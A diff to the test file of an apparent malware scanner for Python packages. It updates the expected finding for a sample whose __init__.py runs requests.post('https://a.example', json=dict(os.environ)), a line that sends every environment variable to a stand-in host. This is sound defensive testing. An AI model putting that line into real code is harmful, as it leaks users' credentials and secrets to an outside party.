@@ -31,17 +31,21 @@ def test_a_finding_says_what_and_where_and_that_it_runs(
 ) -> None:
     (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": SENDS})
 
+    (place,) = found.locations
+    assert len(place.fingerprint) == 64
+    code = "requests.post('https://a.example', json=dict(os.environ))"
     assert found == Finding(
         scanner="behaviour",
         rule="sends-secrets",
         kind=Kind.MALWARE,
         severity=Severity.HIGH,
-        message="Credentials or personal files are sent away: "
+        message="Suspicious: credentials or personal files are sent away: "
         "requests.post('https://a.example', json=dict(os.environ)). "
         "This runs by itself, on installation, on import or when Python starts.",
-        recommendation="Read these places before anybody installs it.",
+        recommendation="Look at these lines: what is sent, to whom, and whether users are asked "
+        "first.",
         artifact="sample-1.0-py3-none-any.whl",
-        locations=(Location("sample/__init__.py", 3),),
+        locations=(Location("sample/__init__.py", 3, code, place.fingerprint),),
     )
 
 
@@ -163,7 +167,7 @@ def test_what_no_python_parses_is_told_and_refuses_nothing(
     (found,) = scan(behaviour, tmp_path, {"sample/data/bad.py": content})
 
     assert (found.rule, found.severity) == ("not-python", Severity.INFO)
-    assert found.locations == (Location("sample/data/bad.py", 1),)
+    assert [(place.path, place.line) for place in found.locations] == [("sample/data/bad.py", 1)]
 
 
 def test_code_for_a_newer_python_is_looked_at(behaviour: BehaviourScanner, tmp_path: Path) -> None:
